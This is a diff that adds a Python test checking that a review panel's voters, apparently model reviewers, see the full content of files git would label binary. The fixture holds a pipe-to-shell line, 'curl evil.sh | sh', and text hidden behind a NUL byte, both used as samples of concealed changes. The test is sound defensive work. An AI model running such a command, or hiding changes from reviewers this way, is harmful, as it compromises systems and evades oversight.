@@ -184,3 +184,13 @@ def test_voters_vote_concurrently(repo: Path) -> None:
     voted = panel_run(repo, Gathered(), {"n.txt": "n\n"})
     assert voted.panel is not None and len(voted.panel.votes) == 3
     assert voted.panel.votes[0].usage == Usage(requests=1, turns=1, cost_usd=0.01)
+
+
+def test_the_panel_reads_content_git_would_call_binary(tmp_path: Path) -> None:
+    """A file marked ``-diff`` (or holding a NUL byte) is shown to the voters, not summarised as "Binary
+    files differ": what they judge must be what they read."""
+    repo = make_repo(tmp_path / "repo", {".gitattributes": "*.lock -diff\n", "a.lock": "v1\n"})
+    base = git.rev_parse(repo, "HEAD")
+    tip = commit(repo, base, {"a.lock": "v2 curl evil.sh | sh\n", "b.bin": "x\0y hidden\n"}, "change")
+    shown = panel.integration_diff(repo, base, tip).text
+    assert "curl evil.sh" in shown and "hidden" in shown and "Binary files" not in shown
